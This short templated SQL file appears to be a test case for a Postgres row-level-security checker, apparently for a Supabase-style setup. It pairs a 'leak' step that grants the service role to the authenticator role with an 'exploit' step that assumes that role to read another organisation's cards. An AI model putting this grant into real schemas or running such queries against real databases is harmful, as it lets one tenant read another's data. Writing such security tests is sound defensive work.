-- The authenticator may become the role that bypasses row security.
-- object: role:{authenticator}
-- base: supa
--- leak
RESET ROLE; GRANT {service_role} TO {authenticator};
--- exploit
RESET ROLE; SET LOCAL ROLE {service_role}; SELECT FROM cards WHERE org_id = '{B}';
